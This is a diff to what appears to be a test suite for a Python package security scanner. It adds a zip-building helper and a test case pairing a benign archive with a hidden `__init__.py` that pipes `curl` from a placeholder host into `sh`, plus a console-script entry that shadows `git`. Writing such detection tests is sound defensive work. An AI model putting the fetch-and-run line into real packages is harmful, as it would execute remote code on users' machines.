@@ -22,6 +22,19 @@ ZLIB = zlib.compress(INERT.encode())
 ROT = codecs.encode(INERT, "rot13")
 URL = "https://example.invalid/x"
 ELF_B64 = base64.b64encode(b"\x7fELF" + bytes(60)).decode()
+
+
+def _zip(files: dict[str, str]) -> bytes:
+    import io
+    import zipfile
+
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        for name, text in files.items():
+            z.writestr(name, text)
+    return buf.getvalue()
+
+
 _NOISY = "".join(c for c in map(chr, range(33, 127)) if c not in "'\"\\")
 
 
@@ -469,6 +482,17 @@ CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
         "[console_scripts]\ngit = gitx.cli:main\n",
         "[console_scripts]\ngitx = gitx.cli:main\n",
         "gitx-1.0.dist-info/entry_points.txt",
+        "wheel",
+    ),
+    (
+        "obfuscation.hidden-archive",
+        _zip(
+            {
+                "hidden/__init__.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
+            }
+        ),
+        _zip({"fixtures/sample.py": "def f():\n    return 1\n"}),
+        "pkg/locale.zip",
         "wheel",
     ),
     (
